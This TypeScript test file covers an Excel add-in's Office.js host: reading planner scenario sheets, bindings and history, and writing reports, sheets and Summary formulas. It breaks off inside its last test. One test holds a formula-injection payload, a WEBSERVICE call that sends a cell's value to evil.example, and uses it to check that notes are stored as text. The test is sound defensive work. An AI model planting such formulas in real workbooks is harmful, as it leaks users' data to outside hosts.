/*
 * The task pane's Office.js workbook host, driven by office-addin-mock: Excel.run, load and sync as
 * Office.js has them (a value read before load and sync is an error in the mock, too).
 */
import fc from "fast-check";
import { Grid, mockExcel, mockOffice, Written } from "../support/office-mock";
import { ASSUMPTION_TABLE, reportTable } from "../../src/core";
import { SETTINGS_KEY } from "../../src/taskpane/host";
import { officeHost } from "../../src/taskpane/office-host";
import { keepSummary } from "../../src/taskpane/pane-actions";
import { readScenario } from "../../src/taskpane/scenario";
import { HISTORY_ROWS, readCpmHistory } from "../../src/taskpane/history-notes";
import { HISTORY_LAYOUT, HISTORY_SHEET } from "../../src/template/planner";
import { historySheet } from "../../src/template/history-sheet";
import { emptySheetState, sheetStateOf } from "../../src/taskpane/state";
import ExcelJS from "exceljs";
import fs from "fs";
import JSZip from "jszip";
import { sheetParts } from "../../src/spreadsheet/xlsx-excel-form";
import { TEMPLATE_PATH } from "../../scripts/build-template";
import { assumptionsSheet, columnLetter, NO_CONVERSIONS_COLUMN, notFound, NOTES_LAST_ROW, PLAYBOOK_LINES, SCENARIO_LAYOUT, scenarioSheet, SUMMARY_FIRST_HEADERS, SUMMARY_HEADERS, SUMMARY_LAYOUT, SUMMARY_OLDER_HEADERS, SCENARIOS, SheetDefinition, sheetAsRows, summarySheet } from "../../src/template/planner";
import { columnPoints, tableLook } from "../../src/template/styles";
import { DEFAULT_SIZE, Look, lookInFile } from "../support/look";

function lookInOffice(style: Written["styles"][string] | undefined, numFmt: unknown): Look {
  const argb = (hex: unknown) => (typeof hex === "string" ? `FF${hex.slice(1).toUpperCase()}` : undefined);
  const edge = (b?: Record<string, unknown>) => (b?.style === "Continuous" && b.weight === "Thin" ? argb(b.color) : undefined);
  const f = style?.format;
  return {
    bold: !!f?.font.bold,
    italic: !!f?.font.italic,
    size: (f?.font.size as number | undefined) ?? DEFAULT_SIZE,
    color: argb(f?.font.color),
    fill: argb(f?.fill.color),
    top: edge(style?.borders.EdgeTop),
    bottom: edge(style?.borders.EdgeBottom),
    wrap: !!f?.wrapText,
    vertical: ({ Top: "top", Center: "middle" } as Record<string, string>)[String(f?.verticalAlignment)],
    numFmt: typeof numFmt === "string" ? numFmt : undefined,
  };
}

const growth = SCENARIOS[1];

/** The block at the top of a sheet the pane reads (A1:J100: as many columns as a scenario's month table). */
const TOP = `A1:${columnLetter(SCENARIO_LAYOUT.columns.length - 1)}100`;
/** The Summary's header row as the pane reads it (A3:K3). */
const SUMMARY_HEADER_ROW = `A${SUMMARY_LAYOUT.headerRow}:${SUMMARY_LAYOUT.lastColumn}${SUMMARY_LAYOUT.headerRow}`;

/** A scenario's Conversions column, header to total, where keepSummary reads it on a sheet without its header (J9:J22). */
const CONVERSIONS_COLUMN = `J${SCENARIO_LAYOUT.headerRow}:J${SCENARIO_LAYOUT.totalRow}`;

/** A scenario's month-table header row as keepSummary reads it (A9:AN9, or lower by `rowsAbove`), from the template, with `drop` headers blanked. */
function headerRowAsRead(sheet: SheetDefinition, rowsAbove = 0, drop: string[] = []): Record<string, Grid> {
  const row = SCENARIO_LAYOUT.headerRow + rowsAbove;
  const cells = sheetAsRows(sheet)[SCENARIO_LAYOUT.headerRow - 1];
  return { [`A${row}:AN${row}`]: [Array.from({ length: 40 }, (_, c) => (drop.includes(String(cells[c])) ? null : (cells[c] ?? null)))] };
}

/** The top block of a sheet as the pane reads it (TOP), from the template's own definition (formulas as their text). */
function columnsAI(sheet: SheetDefinition, rowsAbove = 0): Grid {
  const rows = [...Array.from({ length: rowsAbove }, () => []), ...sheetAsRows(sheet)];
  return Array.from({ length: 100 }, (_, r) => Array.from({ length: SCENARIO_LAYOUT.columns.length }, (_, c) => rows[r]?.[c] ?? null));
}

/** A template scenario sheet as the mock holds it: its first hundred rows, and its budget cap's formula where the pane reads it. */
function scenarioBlocks(sheet: SheetDefinition, rowsAbove = 0): Record<string, Grid> {
  return { [TOP]: columnsAI(sheet, rowsAbove), [`B${7 + rowsAbove}`]: [[`=${sheet.cells.B7.formula}`]] };
}

/** A column of the Notes table as the pane reads it: the values, then blanks to the table's last row. */
function column(values: unknown[]): Grid {
  return Array.from({ length: NOTES_LAST_ROW - 1 }, (_, r) => [values[r] ?? null]);
}

function templateWorkbook(): Record<string, Record<string, Grid>> {
  return {
    Growth: scenarioBlocks(scenarioSheet(growth)),
    Notes: {
      // The Notes sheet's names and its own HOTNOTES labels (in Chinese, as a Chinese Excel shows them).
      [`A2:A${NOTES_LAST_ROW}`]: column(["Skit", "Deep-dive", "Morning", "Unrated"]),
      [`G2:G${NOTES_LAST_ROW}`]: column(["无效爆文", "潜力转化", "effective hot", "#DIV/0!"]),
    },
    Summary: { [TOP]: columnsAI(summarySheet(SCENARIOS)), G5: [[547_755.92]], C4: [[1_900_000]] },
    // Last, so the other sheets keep their ids: the table the scenario's formulas read.
    Assumptions: { [`A1:B${ASSUMPTION_TABLE.length + 1}`]: sheetAsRows(assumptionsSheet()).slice(0, ASSUMPTION_TABLE.length + 1).map((row) => [row[0], row[1]]) },
  };
}

beforeEach(() => {
  const { office } = mockOffice();
  (globalThis as Record<string, unknown>).Office = office;
});

afterEach(() => {
  delete (globalThis as Record<string, unknown>).Excel;
  delete (globalThis as Record<string, unknown>).Office;
});

describe("officeHost", () => {
  it("reads a planner-template scenario and the Notes sheet", async () => {
    const { excel } = mockExcel(templateWorkbook(), "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    const host = officeHost();
    expect(await host.activeSheet()).toEqual({ id: "{sheet-1}", name: "Growth" });
    const scenario = await readScenario(host, "Growth", { ...emptySheetState(), month: 6 });
    expect(scenario).toMatchObject({ template: true, stage: 2, baseCpm: 80, baseCpa: 30, targetCpa: 60, thisMonth: 500_000, proposed: 550_000 });
    expect(scenario.months[0]).toBe("Jan 1月");
    expect(scenario.notes).toEqual([
      { name: "Skit", label: "hollow hot" },
      { name: "Deep-dive", label: "hidden converter" },
      { name: "Morning", label: "effective hot" },
    ]);
    expect(host.displayLanguage()).toBe("zh-CN");
  });

  it("reads an empty cell as blank, and a constant or empty cell's formula as no formula", async () => {
    const { excel } = mockExcel({ Growth: { "A1:C1": { values: [[42, "Skit", null]], formulas: [["=6*7", "Skit", null]] } } });
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await officeHost().readRanges(["Growth!A1:C1"])).toEqual([[[42, "Skit", null]]]);
    expect(await officeHost().readFormulas(["Growth!A1:C1"])).toEqual([[["=6*7", null, null]]]);
  });

  it("reads the assumptions table the scenario's formulas point at, by readAssumptions, refusals included", async () => {
    const workbook = templateWorkbook();
    const table = (elasticity: number) => sheetAsRows(assumptionsSheet()).slice(0, ASSUMPTION_TABLE.length + 1).map((row) => [row[0], row[0] === "cpm_elasticity" ? elasticity : row[1]]);
    // An inserted scenario reading its own table, on a sheet whose name needs quotes.
    workbook.Growth[`B7`] = [["=RED.BUDGETCAP($B$6,$B$5,'Assumptions (2)'!$A$1:$B$8)"]];
    workbook["Assumptions (2)"] = { "A1:B8": table(0.5) };
    const { excel } = mockExcel(workbook, "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    const scenario = await readScenario(officeHost(), "Growth", emptySheetState());
    expect(scenario.assumptions.range).toBe("'Assumptions (2)'!A1:B8");
    expect(scenario.assumptions.read).toMatchObject({ cpmElasticity: 0.5 });
    workbook["Assumptions (2)"] = { "A1:B8": table(1.5) };
    (globalThis as Record<string, unknown>).Excel = mockExcel(workbook, "Growth").excel;
    const refused = await readScenario(officeHost(), "Growth", emptySheetState());
    expect(refused.assumptions.read).toMatchObject({ code: "ASSUMPTION_OUT_OF_RANGE" });
  });

  it("finds a template scenario's inputs and months by their labels after rows are inserted", async () => {
    const workbook = templateWorkbook();
    workbook.Growth = scenarioBlocks(scenarioSheet(growth), 5);
    const { excel } = mockExcel(workbook, "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    const scenario = await readScenario(officeHost(), "Growth", { ...emptySheetState(), month: 6 });
    expect(scenario).toMatchObject({ template: true, stage: 2, baseCpm: 80, baseCpa: 30, targetCpa: 60, thisMonth: 500_000, proposed: 550_000 });
    expect(scenario.months).toHaveLength(12);
    expect(scenario.months[11]).toBe("Dec 12月");
  });

  it("reads the month table beyond the first hundred rows when rows pushed it there", async () => {
    const blocks = scenarioBlocks(scenarioSheet(growth), 80);
    const workbook = templateWorkbook();
    const header = blocks[TOP].findIndex((row) => row[0] === "Month 月份");
    workbook.Growth = {
      ...blocks,
      [`A${header + 2}:${columnLetter(SCENARIO_LAYOUT.columns.length - 1)}${header + 13}`]: sheetAsRows(scenarioSheet(growth)).slice(9, 21).map((row) => Array.from({ length: SCENARIO_LAYOUT.columns.length }, (_, c) => row[c] ?? null)),
    };
    const { excel } = mockExcel(workbook, "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    const scenario = await readScenario(officeHost(), "Growth", { ...emptySheetState(), month: 0 });
    expect(scenario).toMatchObject({ template: true, thisMonth: growth.budgets[0], proposed: growth.budgets[1] });
    expect(scenario.months[0]).toBe("Jan 1月");
  });

  it("counts every month pasted below the CPM history fit's rows to the sheet's last used row: 100,000 months, blank rows among them", async () => {
    const n = 100_000;
    const first = HISTORY_LAYOUT.firstMonthRow;
    // Month i on row first + i: spends and CPMs, every 997th row left blank.
    const month = (i: number): Grid[number] => (i % 997 === 500 ? [null, null] : [100_000 + i, 50 + (i % 10)]);
    const last = first + n - 1;
    const history = sheetAsRows(historySheet()).slice(0, HISTORY_ROWS).map((row, r) => Array.from({ length: 6 }, (_, c) => (r + 1 >= first && c >= 1 && c <= 2 ? month(r + 1 - first)[c - 1] : (row[c] ?? null))));
    const below = first + HISTORY_LAYOUT.monthRows;
    const blocks: Record<string, Grid> = { [`A1:F${HISTORY_ROWS}`]: history };
    // The pane reads the rows below the fit's in blocks of 50,000.
    for (let top = below; top <= last; top += 50_000) {
      const bottom = Math.min(last, top + 49_999);
      blocks[`B${top}:C${bottom}`] = Array.from({ length: bottom - top + 1 }, (_, r) => month(top + r - first));
    }
    const { excel } = mockExcel({ ...templateWorkbook(), [HISTORY_SHEET]: blocks }, "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    const host = officeHost();
    expect(await host.lastUsedRow(HISTORY_SHEET)).toBe(last);
    expect(await host.lastUsedRow("Notes")).toBe(NOTES_LAST_ROW);
    const read = (await readCpmHistory(host, await host.sheets()))!;
    const blanks = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => from + i).filter((i) => i % 997 === 500).length;
    expect(read.months).toHaveLength(HISTORY_LAYOUT.monthRows - blanks(0, HISTORY_LAYOUT.monthRows));
    expect(read.beyond).toBe(n - HISTORY_LAYOUT.monthRows - blanks(HISTORY_LAYOUT.monthRows, n));
    expect(read.beyond).toBe(99_780);
  });

  it("reads a bound scenario from the planner's addresses, quoted sheet names included", async () => {
    const workbook = templateWorkbook();
    workbook["Plan 2027"] = { B2: [[300_000]], B3: [[450_000]] };
    workbook.Growth.B5 = [[30]];
    const { excel } = mockExcel(workbook, "Summary");
    (globalThis as Record<string, unknown>).Excel = excel;
    const state = {
      ...emptySheetState(),
      bindings: { thisMonth: { address: "'Plan 2027'!B2" }, proposed: { address: "'Plan 2027'!B3" }, baseCpa: { address: "Growth!B5" } },
    };
    const scenario = await readScenario(officeHost(), "Summary", state);
    expect(scenario).toMatchObject({ template: false, thisMonth: 300_000, proposed: 450_000, baseCpa: 30 });
  });

  it("says which sheet is missing when a bound sheet was renamed or deleted", async () => {
    const { excel } = mockExcel(templateWorkbook(), "Summary");
    (globalThis as Record<string, unknown>).Excel = excel;
    // A binding whose sheet is gone is reported (to offer a rebind), and the others are still read.
    const state = { ...emptySheetState(), bindings: { thisMonth: { address: "'Old plan'!B2" }, baseCpa: { address: "Growth!B5" } } };
    const workbook = templateWorkbook();
    workbook.Growth.B5 = [[30]];
    (globalThis as Record<string, unknown>).Excel = mockExcel(workbook, "Summary").excel;
    const scenario = await readScenario(officeHost(), "Summary", state);
    expect(scenario.missing).toEqual({ thisMonth: "Old plan" });
    expect(scenario).toMatchObject({ baseCpa: 30, thisMonth: undefined });
    expect(scenario.bound).toEqual({ baseCpa: "Growth!B5" });
    await expect(readScenario(officeHost(), "Gone", emptySheetState())).rejects.toMatchObject({ code: "SHEET_MISSING", detail: "Gone" });
  });

  it("gives the selected range with its sheet", async () => {
    const { excel } = mockExcel(templateWorkbook(), "Growth", "Growth!B10:B12");
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await officeHost().selectedAddress()).toBe("Growth!B10:B12");
  });

  it("writes the report into a new sheet, and in place on a re-run", async () => {
    const { excel, written } = mockExcel(templateWorkbook(), "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    const table = reportTable({ 2: { status: "risk", note: "<b>cut</b>", checkedOn: "2026-11-22" } }, { 2: "cap 547,756" }, "en");
    const report = await officeHost().writeTable({ name: "Minefields" }, table);
    expect(report).toEqual({ id: `{sheet-${Object.keys(templateWorkbook()).length + 1}}`, name: "Minefields" }); // the next id after the workbook's sheets
    expect(written.added).toEqual(["Minefields"]);
    expect(written.values["Minefields!0,0,8,5"]).toEqual(table);
    expect(written.bold).toContain("Minefields!0,0,1,5");
    expect(written.frozen.Minefields).toBe(1);
    // The same widths as the workbench gives the table (tableLook), in Office.js's points.
    tableLook(table).widths.forEach((characters, c) => expect([c, written.styles[`Minefields!0,${c},1,1`]?.format.columnWidth]).toEqual([c, columnPoints(characters)]));
    await officeHost().writeTable(report, table);
    expect(written.added).toEqual(["Minefields"]);
    expect(written.cleared).toEqual(["Minefields"]);
  });

  it("writes a note that starts with = (or +, -, a number) as text, never as a formula", async () => {
    const { excel, written } = mockExcel(templateWorkbook(), "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    const hostile = '=WEBSERVICE("http://evil.example/?"&Growth!B4)';
    const table = reportTable({ 1: { status: "clear", note: hostile }, 2: { status: "risk", note: "=1+1" }, 3: { status: "watch", note: "+86 138" } }, {}, "en");
    await officeHost().writeTable({ name: "Minefields - Growth" }, table);
    const key = "Minefields - Growth!0,0,8,5";
    expect(written.values[key]).toEqual(table);
    expect(written.formulas[key]).toBeUndefined();
    // Every text cell is formatted as text ("@") before its value is set, in the same batch.
    expect(written.formats[key]).toEqual(table.map((row) => row.map(() => "@")));
    expect(written.order.indexOf(`numberFormat ${key}`)).toBeLessThan(written.order.indexOf(`values ${key}`));
    expect(written.order.indexOf(`numberFormat ${key}`)).toBeGreaterThanOrEqual(0);
    // Numbers keep a number format.
    await officeHost().writeTable({ name: "Figures" }, [["month", "budget"], ["Jan", 300000]]);
    expect(written.formats["Figures!0,0,2,2"]).toEqual([["@", "@"], ["@", "General"]]);
  });

  it("property: every text cell of any table is formatted as text before its values are set", async () => {
    const cellValue = fc.oneof(fc.string(), fc.constantFrom("=1+1", "+1", "-1", "@SUM(A1)", "=", "0012"), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(cellValue, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), async (rows) => {
        const { excel, written } = mockExcel(templateWorkbook(), "Growth");
        (globalThis as Record<string, unknown>).Excel = excel;
        await officeHost().writeTable({ name: "Report" }, rows);
        const width = Math.max(...rows.map((row) => row.length));
        const key = `Report!0,0,${rows.length},${width}`;
        const values = written.values[key];
        const formats = written.formats[key];
        values.forEach((row, r) => row.forEach((value, c) => expect(formats[r][c]).toBe(typeof value === "string" ? "@" : "General")));
        expect(written.order.indexOf(`numberFormat ${key}`)).toBeLessThan(written.order.indexOf(`values ${key}`));
        expect(written.formulas[key]).toBeUndefined();
      }),
      { numRuns: 100 },
    );
  });

  it("never writes into or replaces a sheet the pane did not make, whatever its case", async () => {
    const workbook = templateWorkbook();
    workbook.Minefields = { A1: [["my own notes"]] };
    const { excel, written } = mockExcel(workbook, "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    const table = reportTable({}, {}, "en");
    await expect(officeHost().writeTable({ name: "minefields" }, table)).rejects.toMatchObject({ code: "SHEET_EXISTS", detail: "minefields" });
    // An id the workbook no longer has (the report was deleted) is not a licence to take a name.
    await expect(officeHost().writeTable({ id: "{gone}", name: "MINEFIELDS" }, table)).rejects.toMatchObject({ code: "SHEET_EXISTS" });
    await expect(officeHost().addSheet(scenarioSheet({ ...growth, name: "growth" }))).rejects.toMatchObject({ code: "SHEET_EXISTS", detail: "growth" });
    expect(written.cleared).toEqual([]);
    expect(written.added).toEqual([]);
    expect(Object.keys(written.values)).toEqual([]);
  });

  it("a binding made with the sheet's id follows the sheet when it is renamed", async () => {
    const workbook = templateWorkbook();
    workbook["Plan 2027"] = { B2: [[300_000]], B3: [[450_000]] };
    const { excel, rename, idOf } = mockExcel(workbook, "Summary");
    (globalThis as Record<string, unknown>).Excel = excel;
    const id = idOf("Plan 2027");
    const state = {
      ...emptySheetState(),
      bindings: { thisMonth: { address: "'Plan 2027'!B2", sheetId: id }, proposed: { address: "'Plan 2027'!B3", sheetId: id } },
    };
    rename("Plan 2027", "Plan 2028");
    const scenario = await readScenario(officeHost(), "Summary", state);
    expect(scenario).toMatchObject({ thisMonth: 300_000, proposed: 450_000, missing: {} });
    expect(scenario.bound).toEqual({ thisMonth: "'Plan 2028'!B2", proposed: "'Plan 2028'!B3" });
    // The scenario sheet itself, renamed, keeps its answers: the pane finds its entry by id.
    rename("Summary", "Overview");
    const active = await officeHost().activeSheet();
    expect(active.name).toBe("Overview");
    const saved = { version: 2 as const, sheets: [{ ...emptySheetState({ id: active.id, name: "Summary" }), answers: { 5: { status: "clear" as const, note: "kept" } } }] };
    expect(sheetStateOf(saved, active).answers[5].note).toBe("kept");
  });

  it("adds a scenario sheet with the template's formulas and number formats", async () => {
    const { excel, written } = mockExcel(templateWorkbook(), "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    await officeHost().addSheet(scenarioSheet({ ...growth, name: "Scenario 1" }));
    expect(written.added).toEqual(["Scenario 1"]);
    expect(written.formulas["Scenario 1!C10"]).toEqual([['=RED.SPILLSPLIT($B$3,B10,"spillover",Assumptions!$A$1:$B$22)']]);
    expect(written.formats["Scenario 1!C10"]).toEqual([["#,##0.00"]]);
    expect(written.values["Scenario 1!B10"]).toEqual([[300_000]]);
  });

  it("inserts a sheet that prints as the shipped file's: landscape A4, one page wide, its print titles and area, the footer, and its wrapped note merged", async () => {
    const shipped = new ExcelJS.Workbook();
    await shipped.xlsx.readFile(TEMPLATE_PATH);
    const ws = shipped.getWorksheet("Growth")!;
    const { excel, written } = mockExcel(templateWorkbook(), "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    await officeHost().addSheet(scenarioSheet({ ...growth, name: "Scenario 1" }));
    const printed = written.printed["Scenario 1"];
    expect(printed).toMatchObject({ orientation: "Landscape", paperSize: "A4", zoom: { horizontalFitToPages: ws.pageSetup.fitToWidth, verticalFitToPages: ws.pageSetup.fitToHeight } });
    expect(ws.pageSetup).toMatchObject({ orientation: "landscape", paperSize: 9, fitToPage: true });
    expect(printed.titleRows).toBe("$1:$9");
    expect(ws.pageSetup.printTitlesRow).toBe("1:9");
    // Down to the foot of the charts below the playbook, across to the cap-by-month column.
    expect(printed.area).toBe(`$A$1:$${SCENARIO_LAYOUT.capColumn}$${SCENARIO_LAYOUT.charts.firstRow - 1 + 2 * SCENARIO_LAYOUT.charts.rows}`);
    expect(SCENARIO_LAYOUT.charts.firstRow).toBeGreaterThan(Number(SCENARIO_LAYOUT.playbook.zh.slice(1)) + PLAYBOOK_LINES - 1);
    expect((printed.footers as Record<string, unknown>).centerFooter).toBe(ws.headerFooter.oddFooter);
    expect(written.merged["Scenario 1"]).toEqual(["C7:I7"]);
    expect(written.styles["Scenario 1!7:7"]?.format.rowHeight).toBe(ws.getRow(7).height);
    expect(written.styles["Scenario 1!9:9"]?.format.rowHeight).toBe(ws.getRow(9).height);
    // The charts on a page of their own: a break above their first row, where the file has its <brk>.
    expect(printed.breaksBefore).toEqual([`A${SCENARIO_LAYOUT.charts.firstRow}`]);
    const zip = await JSZip.loadAsync(fs.readFileSync(TEMPLATE_PATH));
    const part = (await sheetParts(zip)).get("Growth")!;
    expect([...(await zip.file(part)!.async("string")).matchAll(/<brk id="(\d+)"[^>]*man="1"/g)].map((m) => `A${Number(m[1]) + 1}`)).toEqual(printed.breaksBefore);
  });

  it("leaves print settings to Excel where it cannot set them (before ExcelApi 1.9), and inserts the sheet all the same", async () => {
    const { excel, written } = mockExcel(templateWorkbook(), "Growth");
    (globalThis as Record<string, unknown>).Excel = excel;
    (globalThis as Record<string, unknown>).Office = { context: { requirements: { isSetSupported: (set: string, version: string) => !(set === "ExcelApi" && Number(version) >= 1.9) } } };
    try {
      await officeHost().addSheet(scenarioSheet({ ...growth, name: "Scenario 1" }));
    } finally {
      delete (globalThis as Record<string, unknown>).Office;
    }
    expect(written.added).toEqual(["Scenario 1"]);
    const printed = written.printed["Scenario 1"];
    expect([printed.orientation, printed.zoom, printed.area, printed.titleRows, printed.footers]).toEqual([undefined, undefined, undefined, undefined, {}]);
  });

  it("writes each report, sheet, cell block and chart as one undo step where Excel can merge them (ExcelApi 1.20), and as before where it cannot", async () => {
    const writes = async (isSetSupported?: (set: string, version: string) => boolean) => {
      const { excel, written } = mockExcel(templateWorkbook(), "Growth");
      (globalThis as Record<string, unknown>).Excel = excel;
      (globalThis as Record<string, unknown>).Office = isSetSupported ? { context: { requirements: { isSetSupported } } } : undefined;
      try {
        const host = officeHost();
        await host.writeTable({ name: "Report" }, [["a", 1]]);
        await host.writeCells("Growth", { A1: { value: "x" } });
        await host.addSheet(scenarioSheet({ ...growth, name: "Scenario 1" }));
        await host.activeSheet(); // a read: no undo step to merge
      } finally {
        delete (globalThis as Record<string, unknown>).Office;
      }
      return written.runs;
    };
    const merged = { mergeUndoGroup: true };
    expect(await writes((set, version) => set !== "ExcelApi" || Number(version.split(".")[1]) <= 20)).toEqual([merged, merged, merged, undefined]);
    expect(await writes((set, version) => set !== "ExcelApi" || Number(version.split(".")[1]) < 20)).toEqual([undefined, undefined, undefined, undefined]);
  });

  it("saves settings in the document and reads them back", async () => {
    const { office, settings } = mockOffice();
    (globalThis as Record<string, unknown>).Office = office;
    const state = { version: 1, sheets: { Growth: { bindings: {}, month: 2, answers: { 1: { status: "clear", note: "ok" } } } } };
    await officeHost().saveSettings(state);
    expect(JSON.parse(settings[SETTINGS_KEY] as string)).toEqual(state);
    expect(await officeHost().loadSettings()).toEqual(state);
  });

  it("reports a failed save, and ignores settings that are not ours", async () => {
    (globalThis as Record<string, unknown>).Office = mockOffice(undefined, true).office;
    await expect(officeHost().saveSettings({})).rejects.toMatchObject({ code: "SAVE_FAILED", detail: "read-only workbook" });
    (globalThis as Record<string, unknown>).Office = mockOffice("{not json").office;
    expect(await officeHost().loadSettings()).toBeUndefined();
  });

  it("inserts sheets that look like the shipped file's: fonts, fills, borders, alignment, number formats, widths and frozen panes", async () => {
    const shipped = new ExcelJS.Workbook();
    await shipped.xlsx.readFile(TEMPLATE_PATH);
    const { excel, written } = mockExcel({ Summary: {} }, "Summary");
    (globalThis as Record<string, unknown>).Excel = excel;
    const pairs: [SheetDefinition, string][] = [
      [scenarioSheet({ ...SCENARIOS[1], name: "Inserted growth" }), "Growth"],
      [{ ...assumptionsSheet(), name: "Inserted assumptions" }, "Assumptions"],
    ];
    let styled = 0;
    for (const [definition, inFile] of pairs) {
      await officeHost().addSheet(definition);
      const ws = shipped.getWorksheet(inFile)!;
      for (const address of Object.keys(definition.cells)) {
        const where = `${definition.name}!${address}`;
        const inserted = lookInOffice(written.styles[where], written.formats[where]?.[0]?.[0]);
        expect([address, inserted]).toEqual([address, lookInFile(ws.getCell(address))]);
        if (inserted.bold || inserted.fill || inserted.color) styled++;
      }
      definition.widths.forEach((_, i) => expect([i, written.styles[`${definition.name}!0,${i},1,1`]?.format.columnWidth]).toEqual([i, columnPoints(ws.getColumn(i + 1).width!)]));
      const view = ws.views[0] as { ySplit?: number; xSplit?: number };
      expect(written.frozenAt[definition.name]).toBe(`${view.ySplit},${view.xSplit}`);
    }
    // The comparison saw the template's styles, not only plain cells.
    expect(styled).toBeGreaterThan(40);
  });

  it("keeps the Summary on the scenario sheets there are — a copy and a renamed sheet listed, a deleted one's row emptied — writing names as text", async () => {
    // Column A and the header row of each sheet, as keepSummary reads them.
    const scenarioColumn = columnsAI(scenarioSheet(growth)).map(([a]) => [a]);
    const scenarioSheetCells = { "A1:A100": scenarioColumn, [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)], ...headerRowAsRead(scenarioSheet(growth)) };
    const summaryRows = ["Growth", "Old name", "Deleted"];
    const { excel, written } = mockExcel(
      {
        Summary: {
          "A1:A100": columnsAI(summarySheet(SCENARIOS)).map(([a]) => [a]),
          [SUMMARY_HEADER_ROW]: [SUMMARY_HEADERS],
          "A4:A203": Array.from({ length: 200 }, (_, r) => [summaryRows[r] ?? null]),
        },
        Growth: scenarioSheetCells,
        "=Plan B": scenarioSheetCells,
        Notes: { "A1:A100": Array.from({ length: 100 }, () => [null]), [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)] },
      },
      "Growth",
    );
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await keepSummary(officeHost())).toBe(true);
    expect(written.values["Summary!A4"]).toEqual([["Growth"]]);
    expect(written.values["Summary!A5"]).toEqual([["=Plan B"]]);
    expect(written.order.indexOf("numberFormat Summary!A5")).toBeLessThan(written.order.indexOf("values Summary!A5"));
    expect(written.formats["Summary!A5"]).toEqual([["@"]]);
    expect(written.formulas["Summary!C5"]).toEqual([[`='=Plan B'!$B$${SCENARIO_LAYOUT.totalRow}`]]);
    // The third row (a scenario no longer there) is emptied, every column.
    expect(written.cleared.filter((sheet) => sheet === "Summary")).toHaveLength(SUMMARY_HEADERS.length);
    expect(written.values["Summary!A6"]).toBeUndefined();
    // The Summary's new columns are there for every scenario, inserted ones included.
    expect(written.formulas["Summary!I5"]).toEqual([[`='=Plan B'!$J$${SCENARIO_LAYOUT.totalRow}`]]);
  });

  it("keeps a Summary made from an older template (its first eight headers), adding the columns it lacks", async () => {
    const scenarioColumn = columnsAI(scenarioSheet(growth)).map(([a]) => [a]);
    const older = [...SUMMARY_HEADERS.slice(0, SUMMARY_FIRST_HEADERS), ...Array(SUMMARY_HEADERS.length - SUMMARY_FIRST_HEADERS).fill(null)];
    const { excel, written } = mockExcel(
      {
        Summary: { "A1:A100": columnsAI(summarySheet(SCENARIOS)).map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [older], "A4:A203": Array.from({ length: 200 }, (_, r) => [r === 0 ? "Growth" : null]) },
        Growth: { "A1:A100": scenarioColumn, [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)], ...headerRowAsRead(scenarioSheet(growth)) },
      },
      "Growth",
    );
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await keepSummary(officeHost())).toBe(true);
    SUMMARY_HEADERS.slice(SUMMARY_FIRST_HEADERS).forEach((header, i) => expect(written.values[`Summary!${columnLetter(SUMMARY_FIRST_HEADERS + i)}3`]).toEqual([[header]]));
    expect(written.formulas["Summary!I4"]).toEqual([[`=Growth!$J$${SCENARIO_LAYOUT.totalRow}`]]);
  });

  it("README, the Summary follows the scenario sheets: adds the Conversions column to a scenario sheet older than it, over the table its marginal CPAs read, and points the Summary at it", async () => {
    const older = scenarioSheet(growth);
    const { excel, written } = mockExcel(
      {
        Summary: { "A1:A100": columnsAI(summarySheet(SCENARIOS)).map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [SUMMARY_HEADERS], "A4:A203": Array.from({ length: 200 }, (_, r) => [r === 0 ? "Growth" : null]) },
        Growth: {
          "A1:A100": columnsAI(older).map(([a]) => [a]),
          [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)],
          ...headerRowAsRead(older, 0, ["Conversions 转化"]),
          [CONVERSIONS_COLUMN]: Array.from({ length: 14 }, () => [null]),
          H10: [["=RED.MARGINALCPA(B10,$B$5,'Old assumptions'!$A$2:$B$30)"]],
        },
      },
      "Growth",
    );
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await keepSummary(officeHost())).toBe(true);
    expect(written.values["Growth!J9"]).toEqual([["Conversions 转化"]]);
    expect(written.formulas["Growth!J10"]).toEqual([["=RED.CONVERSIONS(B10,$B$5,'Old assumptions'!$A$2:$B$30)"]]);
    expect(written.formulas["Growth!J21"]).toEqual([["=RED.CONVERSIONS(B21,$B$5,'Old assumptions'!$A$2:$B$30)"]]);
    expect(String(written.formulas["Growth!J22"]?.[0]?.[0])).toContain("SUM(J10:J21)");
    expect(written.formulas["Summary!I4"]).toEqual([["=Growth!$J$22"]]);
  });

  it("README, the Summary follows the scenario sheets: leaves a scenario's column J alone when it holds other data, and says so on the Summary rather than show 0 conversions", async () => {
    const { excel, written } = mockExcel(
      {
        Summary: {
          "A1:A100": columnsAI(summarySheet(SCENARIOS)).map(([a]) => [a]),
          [SUMMARY_HEADER_ROW]: [SUMMARY_HEADERS],
          "A4:A203": Array.from({ length: 200 }, (_, r) => [r === 0 ? "Growth" : null]),
          // Written before column J held the planner's note: counting it.
          "I4:I4": [[0]],
        },
        Growth: {
          "A1:A100": columnsAI(scenarioSheet(growth)).map(([a]) => [a]),
          [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)],
          ...headerRowAsRead(scenarioSheet(growth), 0, ["Conversions 转化"]),
          [CONVERSIONS_COLUMN]: Array.from({ length: 14 }, (_, r) => [r === 3 ? "my note" : null]),
        },
      },
      "Growth",
    );
